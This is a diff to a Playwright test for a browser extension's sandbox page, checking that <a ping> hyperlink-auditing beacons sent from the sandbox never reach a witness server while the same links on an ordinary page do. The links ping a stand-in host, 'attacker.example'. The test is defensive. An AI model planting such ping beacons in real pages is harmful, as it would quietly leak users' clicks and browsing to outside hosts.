@@ -221,57 +221,52 @@ test('the offscreen document frames only sandbox pages, with the sandbox attribu
   await win.detach();
 });
 
-// The harness runs Chromium with --no-pings, so no page can send an <a ping> there: that run proves nothing
-// about the sandbox. Here hyperlink auditing is on, and the same browser shows it works from a page.
-test.describe('with hyperlink auditing on', () => {
-  test.use({ omitChromiumArgs: ['--no-pings'] });
+// Hyperlink auditing is on in the test browser, as in stock Chrome: the same browser shows it works from a page.
+test('an <a ping> clicked in the sandbox page reaches no witness; the same link on an ordinary page pings it', async ({
+  openPage,
+  openExtensionPage,
+  tabIdOf,
+  evaluateInOffscreen,
+  context,
+  cdp,
+  witness,
+}) => {
+  const { page, panel, ids, win } = await framedSandboxWindow({ openPage, openExtensionPage, tabIdOf, evaluateInOffscreen, context, cdp, witness });
+  // A link within the document, then one that leaves it (the frame policy refuses that navigation, and the
+  // frame, now on an error document, is torn down).
+  const clicked = await win.evaluate<string>(
+    String.raw`(() => {
+      const link = (id, href) => { const a = document.createElement('a'); a.id = id; a.href = href; a.ping = 'http://attacker.example/window-ping-' + id; a.textContent = id; document.body.append(a); return a; };
+      link('fragment', '#here').click();
+      const before = location.href;
+      setTimeout(() => link('away', 'http://other.test/index.html?from-sandbox').click(), 300);
+      return before;
+    })()`,
+    { userGesture: true },
+  );
+  expect(clicked).toMatch(/\/sandbox\/sandbox\.html/);
+  await expectLive(evaluateInOffscreen, []);
+  await waitForLog(panel, ids[0]!, /sandbox ended: the sandbox frame loaded a second document/);
+  await win.detach();
+  await witness.expectNoHits({ settleMs: 1_500 });
 
-  test('an <a ping> clicked in the sandbox page reaches no witness; the same link on an ordinary page pings it', async ({
-    openPage,
-    openExtensionPage,
-    tabIdOf,
-    evaluateInOffscreen,
-    context,
-    cdp,
-    witness,
-  }) => {
-    const { page, panel, ids, win } = await framedSandboxWindow({ openPage, openExtensionPage, tabIdOf, evaluateInOffscreen, context, cdp, witness });
-    // A link within the document, then one that leaves it (the frame policy refuses that navigation, and the
-    // frame, now on an error document, is torn down).
-    const clicked = await win.evaluate<string>(
-      String.raw`(() => {
-        const link = (id, href) => { const a = document.createElement('a'); a.id = id; a.href = href; a.ping = 'http://attacker.example/window-ping-' + id; a.textContent = id; document.body.append(a); return a; };
-        link('fragment', '#here').click();
-        const before = location.href;
-        setTimeout(() => link('away', 'http://other.test/index.html?from-sandbox').click(), 300);
-        return before;
-      })()`,
-      { userGesture: true },
+  // The same two links on an ordinary page in this browser: each click sends its ping (a POST).
+  await page.goto('http://other.test/index.html');
+  for (const [id, href] of [['fragment', '#here'], ['away', '/index.html?pinged']] as const) {
+    await page.evaluate(
+      ({ id, href }) => {
+        const a = document.createElement('a');
+        a.id = id;
+        a.href = href;
+        a.ping = `http://attacker.example/control-ping-${id}`;
+        a.textContent = id;
+        document.body.append(a);
+      },
+      { id, href },
     );
-    expect(clicked).toMatch(/\/sandbox\/sandbox\.html/);
-    await expectLive(evaluateInOffscreen, []);
-    await waitForLog(panel, ids[0]!, /sandbox ended: the sandbox frame loaded a second document/);
-    await win.detach();
-    await witness.expectNoHits({ settleMs: 1_500 });
-
-    // The same two links on an ordinary page in this browser: each click sends its ping (a POST).
-    await page.goto('http://other.test/index.html');
-    for (const [id, href] of [['fragment', '#here'], ['away', '/index.html?pinged']] as const) {
-      await page.evaluate(
-        ({ id, href }) => {
-          const a = document.createElement('a');
-          a.id = id;
-          a.href = href;
-          a.ping = `http://attacker.example/control-ping-${id}`;
-          a.textContent = id;
-          document.body.append(a);
-        },
-        { id, href },
-      );
-      await page.locator(`#${id}`).click();
-    }
-    await witness.waitForHits((h) => ['fragment', 'away'].every((id) => h.some((x) => x.path === `/control-ping-${id}` && x.method === 'POST')), {
-      message: 'the ordinary page did not send both pings',
-    });
+    await page.locator(`#${id}`).click();
+  }
+  await witness.waitForHits((h) => ['fragment', 'away'].every((id) => h.some((x) => x.path === `/control-ping-${id}` && x.method === 'POST')), {
+    message: 'the ordinary page did not send both pings',
   });
 });
